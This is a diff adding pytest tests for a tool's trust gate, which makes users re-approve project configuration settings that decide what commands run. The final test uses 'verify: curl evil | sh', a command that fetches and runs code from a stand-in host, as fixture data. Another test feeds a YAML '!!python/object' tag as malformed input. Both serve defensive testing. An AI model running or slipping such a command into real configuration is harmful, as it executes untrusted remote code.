@@ -2,11 +2,14 @@
 
 from __future__ import annotations
 
+import hashlib
+import json
 import os
 from pathlib import Path
 
 import pytest
 
+from lib.config import BOUND
 from lib.errors import RelayError
 from lib.paths import Project, user_state_dir
 from lib.trust import Pending, pending, require, trust, trust_file
@@ -52,7 +55,7 @@ def test_all_that_decides_what_is_run_waits_until_it_is_trusted(project: Project
     for name in BROUGHT:
         bring(project, name)
     assert waiting(project) == dict.fromkeys(BROUGHT, "new")
-    with pytest.raises(RelayError, match=r"config\.yaml \(new\).* and 2 more") as caught:
+    with pytest.raises(RelayError, match=r"config\.yaml.* and 2 more are new and decide what is run") as caught:
         require(project)
     assert (caught.value.code, caught.value.remedy) == ("untrusted", "relay trust")
     trust(project)
@@ -209,3 +212,52 @@ def test_trust_that_can_not_be_kept_is_told(project: Project) -> None:
         trust(project)
     assert caught.value.code == "trust_not_kept"
     assert isinstance(pending(project)[0], Pending)
+
+
+def test_only_settings_that_decide_what_is_run_need_trust(project: Project) -> None:
+    bring(project, ".project/config.yaml", "parallel: 3\nland: ask\n")
+    assert pending(project) == []
+    bring(project, ".project/config.yaml", "parallel: 3\nverify: pytest\n")
+    assert waiting(project) == {".project/config.yaml": "new"}
+    trust(project)
+    bring(project, ".project/config.yaml", "# mine\nverify:   pytest\nparallel: 4\ntimeout_s: 9\n")
+    require(project)
+
+
+@pytest.mark.parametrize("key", sorted(BOUND))
+def test_each_setting_that_decides_what_is_run_asks_again_when_it_changes(project: Project, key: str) -> None:
+    bring(project, ".project/config.yaml", f"{key}: one\nparallel: 3\n")
+    trust(project)
+    bring(project, ".project/config.yaml", f"{key}: two\nparallel: 3\n")
+    with pytest.raises(RelayError) as caught:
+        require(project)
+    assert caught.value.message == (".project/config.yaml changed since you trusted it. Review and trust: relay trust")
+
+
+def test_what_a_version_before_trusted_by_the_whole_file_stays_trusted(project: Project) -> None:
+    path = bring(project, ".project/config.yaml", "verify: pytest\n")
+    trust(project)
+    (record,) = (user_state_dir() / "trust").iterdir()
+    digest = f"file - {hashlib.sha256(path.read_bytes()).hexdigest()}"
+    record.write_text(json.dumps({"project": str(project.root), "files": {".project/config.yaml": digest}}))
+    require(project)
+    bring(project, ".project/config.yaml", "verify: x\n")
+    assert waiting(project) == {".project/config.yaml": "changed"}
+
+
+@pytest.mark.parametrize("content", ["a: [\n", "- a\n", "!!python/object:x {}\n", "\xff"])
+def test_a_configuration_that_can_not_be_read_is_bound_as_a_whole(project: Project, content: str) -> None:
+    path = bring(project, ".project/config.yaml", "")
+    path.write_bytes(content.encode("latin-1"))
+    assert waiting(project) == {".project/config.yaml": "new"}
+    trust(project)
+    path.write_bytes(content.encode("latin-1") + b"#")
+    assert waiting(project) == {".project/config.yaml": "changed"}
+
+
+def test_what_changed_can_be_shown(project: Project) -> None:
+    bring(project, ".project/config.yaml", "verify: pytest\n")
+    trust(project)
+    bring(project, ".project/config.yaml", "verify: curl evil | sh\n")
+    (item,) = pending(project)
+    assert (item.trusted, item.text) == ("verify: pytest\n", "verify: curl evil | sh\n")
